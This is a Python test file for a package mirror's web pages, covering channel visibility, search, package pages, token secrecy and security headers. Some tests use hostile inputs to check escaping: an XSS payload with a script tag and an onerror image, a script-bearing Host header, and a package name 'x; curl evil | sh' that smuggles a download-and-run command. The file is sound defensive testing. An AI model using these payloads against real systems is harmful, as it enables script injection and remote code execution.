"""Pages for people: what they show, to whom, and that nothing in them can become a script."""

import html
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin

import pytest

from firth_protocol.errors import FirthError, Forbidden, Unavailable, Upstream
from firth_protocol.types import Family, Privacy
from firthd.channels.showcase import Dependency, FamilyShown, Found, PackageShown, ReadListing
from firthd.config import WebSettings
from firthd.families.conda.addresses import set_up
from firthd.store.showcase import ListedPackageRow, ReadPageRow, ShownFileRow, SnapshotRow, VersionRow
from firthd.web.pages.browsers import wants_page
from firthd.web.pages.html import POLICY
from tests.support.rawhttp import Reply
from tests.support.web import PUBLISHED_MS, Site, conda_index, running_site

BROWSER = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "User-Agent": "Mozilla/5.0"}
EVIL = "<script>alert(1)</script>\"'><img src=x onerror=y>"
HOUR_MS = 3_600_000


def listed(name: str, **fields: object) -> ListedPackageRow:
    values: dict[str, object] = {
        "version": "1.0", "versions": 1, "files": 2, "bytes": 1500, "platforms": ["noarch"], "number": 1,
        "time": PUBLISHED_MS,
    }  # fmt: skip
    return ListedPackageRow(name=name, **(values | fields))  # type: ignore[arg-type]  # the fields are the test's


def shown(name: str = "numpy", **fields: object) -> PackageShown:
    row = ShownFileRow(
        part="noarch", filename=f"{name}-1.10-0.conda", build="0", license="BSD-3-Clause", size=2_000_000,
        sha256="ab" * 32, timestamp=PUBLISHED_MS - HOUR_MS, since=PUBLISHED_MS, raw=b"",
    )  # fmt: skip
    values: dict[str, object] = {
        "family": Family.CONDA,
        "name": name,
        "version": "1.10",
        "versions": [VersionRow("1.10", 1, 2_000_000), VersionRow("1.9", 2, 3_000_000)],
        "files": [row],
        "platforms": ["noarch"],
        "depends": [Dependency("libblas >=3.9", "libblas"), Dependency("glibc", None)],
    }
    return PackageShown(**(values | fields))  # type: ignore[arg-type]  # the fields are the test's


def words(body: bytes) -> str:
    """Return what a page says, without its tags."""
    return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", body.decode())).split())


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.inline: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in ("href", "src", "action"):
                self.found.append(value or "")
            if name == "style" or name.startswith("on"):
                self.inline.append(f"{tag} {name}")
        if tag == "style" or (tag == "script" and not dict(attrs).get("src")):
            self.inline.append(tag)


def links(body: bytes) -> _Links:
    parser = _Links()
    parser.feed(body.decode())
    return parser


@pytest.fixture
async def team(site: Site) -> Site:
    site.shelf.channel("main", conda_index("noarch"), generation=42)
    site.shelf.channel("main/dev", conda_index("noarch"))
    site.shelf.channel("staff", conda_index("noarch"), privacy=Privacy.AUTHENTICATED)
    site.shelf.channel("secret", conda_index("noarch"), privacy=Privacy.PRIVATE)
    site.show.listed = [listed("numpy"), listed("numba"), listed(EVIL)]
    site.show.shown["conda", "numpy"] = shown()
    await site.token("open-all")
    await site.token("names-secret", "secret")
    return site


@pytest.mark.parametrize(
    ("path", "channels"),
    [
        ("/", ["main", "main/dev"]),
        ("/t/open-all/", ["main", "main/dev", "staff"]),
        ("/t/names-secret/", ["main", "main/dev", "secret", "staff"]),
        ("/t/wrong/", ["main", "main/dev"]),
    ],
)
async def test_the_list_holds_what_a_visitor_may_see(team: Site, path: str, channels: list[str]) -> None:
    reply = await team.get(path)
    assert re.findall(r'<h3><a href="[./]*repo/([^"]+)/"', reply.body.decode()) == channels
    assert reply.headers["cache-control"] == "private, no-cache"
    assert reply.headers["vary"] == "Authorization"
    await team.get(f"{path}?q=num")
    assert team.show.searched == [(channels, "num")]


async def test_the_list_says_what_a_channel_is(team: Site) -> None:
    team.show.description, team.show.frozen_at_ms = f"All we need {EVIL}", PUBLISHED_MS
    team.show.families = [
        FamilyShown(family=Family.CONDA, packages=1, files=3, bytes=3_000_000),
        FamilyShown(family=Family.R, packages=12345, files=3, bytes=0),
        FamilyShown(family=Family.PYTHON, packages=0, files=0, bytes=0, whole=(1,)),
    ]
    reply = await team.get("/")
    said = words(reply.body)
    for part in (EVIL, "conda: 1 package ", "R: 12,345 packages", "Python: a whole index", "3.0 MB", "frozen"):
        assert part in said
    assert '<time datetime="2026-04-29T22:00:00.000Z" title="2026-04-29 22:00:00 UTC">2 h ago</time>' in str(reply.body)


async def test_nobody_sees_a_page_without_words(site: Site) -> None:
    assert "No channel is open to you here" in words((await site.get("/")).body)
    site.shelf.channel("new", {})
    site.show.families = []
    assert "no packages yet" in words((await site.get("/")).body)
    assert "They come when the first mirror of this channel has run" in words((await site.get("/repo/new/")).body)


async def test_a_search_over_channels_leads_to_packages(team: Site) -> None:
    channel = team.shelf.views["main"].channel_id
    team.show.found = [
        Found(channel_id=channel, family=Family.CONDA, name=name, version="2.0", files=1) for name in ("numpy", EVIL)
    ]
    reply = await team.get(f"/?q={'num' * 100}")
    assert team.show.searched[0][1] == ("num" * 100)[:200]
    assert "./repo/main/-/conda/numpy" in links(reply.body).found
    assert EVIL in words(reply.body)
    assert links(reply.body).inline == []
    team.show.found = []
    assert "No package in the channels below is called so" in words((await team.get("/?q=x")).body)


async def test_a_channels_page_has_a_line_for_each_client(team: Site) -> None:
    reply = await team.get("/repo/main/")
    text = reply.body.decode()
    assert reply.headers["content-type"] == "text/html; charset=utf-8"
    assert reply.headers["cache-control"] == "public, max-age=60"
    for line in (
        *(html.escape(one.lines, quote=False) for one in set_up("http://firth.example.org/repo/main")),
        "http://firth.example.org/snapshot/2026-04-30/main",
    ):
        assert line.replace('"', "&#34;") in text
    assert "generation 42" in words(reply.body)


async def test_a_channels_page_lists_its_packages_and_escapes_them(team: Site) -> None:
    reply = await team.get("/repo/main/?q=num")
    assert "2 packages with “num” in the name" in words(reply.body)
    assert "numpy 1.0 1 2 1.5 kB noarch 2 h ago" in words(reply.body)
    hostile = await team.get("/repo/main/?q=%3Cscript%3E")
    assert "1 package with" in words(hostile.body)
    assert b"<script>alert" not in hostile.body
    assert links(hostile.body).inline == []
    assert (
        "../../repo/main/-/conda/%3Cscript%3Ealert%281%29%3C%2Fscript%3E%22%27%3E%3Cimg%20src%3Dx%20onerror%3Dy%3E"
        in (links(hostile.body).found)
    )
    assert "No package here has “zzz” in its name" in words((await team.get("/repo/main/?q=zzz")).body)


async def test_packages_are_sorted_and_paged_by_links(team: Site) -> None:
    found = links((await team.get("/repo/main/?sort=-updated&q=num")).body).found
    assert "./?q=num&family=conda&sort=updated" in found
    assert "./?q=num&family=conda" in found
    await team.get("/repo/main/?sort=-updated&after=12:numpy")
    assert (team.show.wanted[-1].order, team.show.wanted[-1].descending) == ("updated", True)
    assert (team.show.wanted[-1].place, team.show.wanted[-1].back) == ((12, "numpy"), False)
    await team.get("/repo/main/?before=numpy")
    assert (team.show.wanted[-1].place, team.show.wanted[-1].back) == (("numpy", "numpy"), True)


async def test_what_no_link_asks_for_is_refused(team: Site) -> None:
    for asked in (
        "sort=size", "sort=", "family=cargo", "sort=updated&after=numpy", "sort=updated&after=-1:a", "after=a&before=b",
        "sort=updated&after=9999999999999999999:a", f"after={'a' * 600}",
    ):  # fmt: skip
        assert (await team.get(f"/repo/main/?{asked}")).status == 400, asked
    for page, status in (("1", 200), ("2", 404), ("0", 400), ("-1", 400), ("%D9%A3", 400), ("9" * 5000, 400)):
        assert (await team.get(f"/?page={page}")).status == status, page[:9]


async def test_a_whole_index_says_what_is_true(team: Site) -> None:
    team.show.families = [FamilyShown(family=Family.CONDA, packages=0, files=0, bytes=0, whole=(3,))]
    team.show.listed = []
    said = words((await team.get("/repo/main/")).body)
    assert "comes from there when somebody first asks for it" in said
    assert "Nobody has asked for a package yet" in said
    assert "No package" not in said
    team.show.read = ReadListing(parts=[ReadPageRow("numpy", PUBLISHED_MS)], after="numpy")
    reply = await team.get("/repo/main/?q=numpy")
    assert "Look up the package called numpy" in words(reply.body)
    assert "../../repo/main/-/conda/numpy" in links(reply.body).found
    assert "./?q=numpy&family=conda&read=numpy" in links(reply.body).found


async def test_snapshots_are_listed_by_day_and_have_the_same_page(team: Site) -> None:
    team.show.kept = [
        SnapshotRow(42, PUBLISHED_MS, 3, 1, 90),
        SnapshotRow(41, PUBLISHED_MS - HOUR_MS, 2, 0, 88),
        SnapshotRow(40, PUBLISHED_MS - 48 * HOUR_MS, 0, 0, 86),
    ]
    reply = await team.get("/repo/main/")
    assert "2026-04-29 90 files, +5, −1 2026-04-27 86 files" in words(reply.body)
    assert "../../snapshot/2026-04-29/main/" in links(reply.body).found
    team.shelf.kept["main", "2026-04-29"] = team.shelf.views["main"]
    there = await team.get("/snapshot/2026-04-29/main/")
    assert "http://firth.example.org/snapshot/2026-04-29/main" in words(there.body)
    assert "See it as it is now" in words(there.body)
    assert "../../../snapshot/2026-04-29/main/-/conda/numpy" in links(there.body).found
    assert (await team.get("/snapshot/2026-04-29/main")).status == 308
    assert (await team.get("/snapshot/2026-04-29/main/-/conda/numpy")).status == 200


async def test_a_packages_page(team: Site) -> None:
    reply = await team.get("/repo/main/-/conda/numpy")
    said = words(reply.body)
    for part in (
        "conda install -c http://firth.example.org/repo/main --override-channels numpy",
        "2 versions", "3 files, 5.0 MB", "BSD-3-Clause", "sha256 " + "ab" * 32, "noarch 2.0 MB 3 h ago",
        "libblas >=3.9",
    ):  # fmt: skip
        assert part in said
    found = links(reply.body).found
    for target in ("../../../../repo/main/noarch/numpy-1.10-0.conda", "../../../../repo/main/-/conda/libblas"):
        assert target in found
    assert "?version=1.9" in found
    assert not any("glibc" in target for target in found)
    assert (await team.get("/repo/main/-/conda/numpy?version=7")).status == 404
    assert (await team.get("/repo/main/-/conda/nothing")).status == 404
    assert (await team.get("/repo/main/-/cargo/numpy")).status == 404
    assert (await team.get("/repo/main/-/conda/numpy/more")).status == 404
    moved = await team.get("/repo/main/-/conda/NumPy")
    assert (moved.status, moved.headers["location"]) == (302, "numpy")
    spelled = await team.get("/repo/main/-/conda/NumPy?version=1.10")
    assert spelled.headers["location"] == "numpy?version=1.10"
    head = await team.head("/repo/main/-/conda/numpy")
    assert (head.status, head.body, head.headers["etag"]) == (200, b"", reply.headers["etag"])


async def test_a_name_that_cannot_be_typed_is_in_no_line(team: Site) -> None:
    name = "x; curl evil | sh"
    team.show.shown["conda", name] = shown(name, depends=None)
    said = words((await team.get("/repo/main/-/conda/x;%20curl%20evil%20%7C%20sh")).body)
    assert "conda install" not in said
    assert "Its name cannot be typed without care" in said
    assert "Not known yet" in said


async def test_every_link_leads_home_or_on(team: Site) -> None:
    for path in ("/", "/repo/main/", "/repo/main/dev/", "/repo/main/-/conda/numpy", "/t/open-all/repo/staff/"):
        found = links((await team.get(path)).body).found
        home = f"/{'/'.join(path.split('/')[1:3])}/" if path.startswith("/t/") else "/"
        reached = {urljoin(path, target).partition("?")[0] for target in found}
        assert home in reached
        assert all(target.startswith(home) and "//" not in target for target in reached), reached
        for target in reached:
            if "/-/" in target and target.count("/") < 5:
                asset = await team.get(target)
                assert (asset.status, asset.headers["cache-control"]) == (200, "public, max-age=31536000, immutable")


async def test_without_the_slash_the_page_is_a_redirect(team: Site) -> None:
    reply = await team.get("/t/open-all/repo/staff")
    assert (reply.status, reply.headers["location"]) == (308, "staff/")
    home = await team.get("/t/open-all")
    assert (home.status, home.headers["location"]) == (308, "open-all/")


async def test_a_token_is_never_repeated_and_asked_for_each_time(team: Site) -> None:
    for path in ("/t/names-secret/repo/secret/", "/t/names-secret/repo/secret/-/conda/numpy"):
        reply = await team.get(path)
        assert b"names-secret" not in reply.body
        assert "http://firth.example.org/t/<TOKEN>/repo/secret" in words(reply.body)
        assert reply.headers["cache-control"] == "private, no-cache"
        again = await team.get(path, {"If-None-Match": reply.headers["etag"]})
        assert (again.status, again.body) == (304, b"")
        assert again.headers["content-security-policy"] == POLICY


async def test_what_is_hidden_does_not_exist(team: Site) -> None:
    def told(reply: Reply) -> tuple[int, dict[str, str], bytes]:
        return reply.status, {name: value for name, value in reply.headers.items() if name != "date"}, reply.body

    for path in ("", "-/conda/numpy", "?q=num"):
        for headers in (None, BROWSER):
            hidden, absent = [await team.get(f"/repo/{name}/{path}", headers) for name in ("secret", "absent")]
            assert told(hidden) == told(absent)
            assert hidden.status == 404


async def test_the_public_address_is_the_one_configured(tmp_path: Path) -> None:
    async with running_site(tmp_path, WebSettings(public_url="https://packages.example.org/")) as site:
        site.shelf.channel("main", conda_index("noarch"))
        assert "https://packages.example.org/repo/main" in (await site.get("/repo/main/")).body.decode()


async def test_a_proxy_tells_the_scheme(tmp_path: Path) -> None:
    async with running_site(tmp_path, WebSettings(trusted_proxies=["127.0.0.1"])) as site:
        site.shelf.channel("main", conda_index("noarch"))
        reply = await site.get("/repo/main/", {"X-Forwarded-Proto": "https"})
        assert "https://firth.example.org/repo/main" in reply.body.decode()


async def test_a_hostile_host_is_not_repeated(team: Site) -> None:
    async with team.connection() as client:
        client.writer.write(b"GET /repo/main/ HTTP/1.1\r\nHost: <script>alert(1)</script>\r\n\r\n")
        reply = await client.reply()
    assert b"<script>alert" not in reply.body
    assert b"http://HOST/repo/main" in reply.body


async def test_the_policy_allows_nothing_inline_and_nothing_from_elsewhere(team: Site) -> None:
    for path in ("/", "/?q=a", "/repo/main/", "/repo/main/-/conda/numpy", "/nowhere"):
        reply = await team.get(path, BROWSER)
        assert reply.headers["content-security-policy"] == POLICY
        assert reply.headers["referrer-policy"] == "no-referrer"
        assert reply.headers["x-robots-tag"] == "noindex, nofollow"
        assert "set-cookie" not in reply.headers
        found = links(reply.body)
        assert found.inline == []
        assert not [target for target in found.found if ":" in target.partition("?")[0] or target.startswith("//")]
    assert POLICY.startswith("default-src 'none'; style-src 'self'; script-src 'self';")
    assert "unsafe" not in POLICY


PIP = "application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01"


@pytest.mark.parametrize(
    ("headers", "page"),
    [
        (BROWSER, True),
        ({"Accept": "text/html"}, True),
        ({"Accept": "text/html", "User-Agent": "pip/21.0"}, False),
        ({"Accept": PIP, "User-Agent": "a new one"}, False),
        ({"Accept": "*/*", "User-Agent": "conda/24.1"}, False),
        ({"Accept": "application/json, text/html"}, False),
        ({"Accept": "text/html;q=nan"}, False),
        ({"Accept": "text/html;q=x"}, False),
        ({}, False),
    ],
)
def test_a_browser_is_told_from_a_program(headers: dict[str, str], page: bool) -> None:
    assert wants_page(headers) is page


async def test_people_get_a_page_and_programs_what_they_read(team: Site) -> None:
    for headers, kind in ((BROWSER, "text/html; charset=utf-8"), ({"Accept": PIP}, "application/problem+json")):
        reply = await team.get("/repo/nothing/", headers)
        assert (reply.status, reply.headers["content-type"], reply.headers["cache-control"]) == (404, kind, "no-store")


async def test_a_refusal_keeps_its_status_and_says_what_to_do(team: Site) -> None:
    locked = await team.get("/repo/staff/", BROWSER)
    assert (locked.status, locked.headers["www-authenticate"]) == (401, 'Basic realm="Firth", charset="UTF-8"')
    assert "This channel wants a token" in words(locked.body)
    lacking = await team.get("/repo/main/-/conda/zzz", BROWSER)
    assert "The channel main has no conda package zzz." in words(lacking.body)
    assert "../../../../repo/main/?q=zzz" in links(lacking.body).found
    assert (await team.get("/repo/main/-/conda/zzz")).headers["content-type"] == "application/problem+json"
    deep = await team.get("/a" * 100, BROWSER)
    assert links(deep.body).found[0].startswith("/-/")


@pytest.mark.parametrize(
    ("trouble", "status", "said"),
    [
        (Forbidden("numpy 2 is kept out by the policy course"), 403, "Not to be had here"),
        (Upstream("the source answered 500"), 502, "Try again in a few minutes"),
        (Unavailable("numpy has not come from its source yet"), 503, "Try again in a moment"),
    ],
)
async def test_a_refusal_looks_like_the_other_pages(team: Site, trouble: FirthError, status: int, said: str) -> None:
    team.show.trouble = trouble
    for headers, kind in ((BROWSER, "text/html; charset=utf-8"), ({}, "application/problem+json")):
        reply = await team.get("/repo/main/-/conda/numpy", headers)
        assert (reply.status, reply.headers["content-type"]) == (status, kind)
        assert reply.headers.get("retry-after") == ("30" if status == 503 else None)
        assert trouble.message.lower() in words(reply.body).lower()
    assert said in words((await team.get("/repo/main/-/conda/numpy", BROWSER)).body)


async def test_a_package_with_more_than_a_page_holds(team: Site) -> None:
    versions = [VersionRow(f"1.{number}", 1, 1) for number in range(900, 0, -1)]
    needs = [Dependency(f"needed{number} >=1", None) for number in range(300)]
    team.show.shown["conda", "many"] = shown("many", version="1.900", versions=versions, depends=needs)
    said = words((await team.get("/repo/main/-/conda/many")).body)
    for part in ("900 versions", "876 earlier versions", "And 500 versions before them", "And 100 others"):
        assert part in said
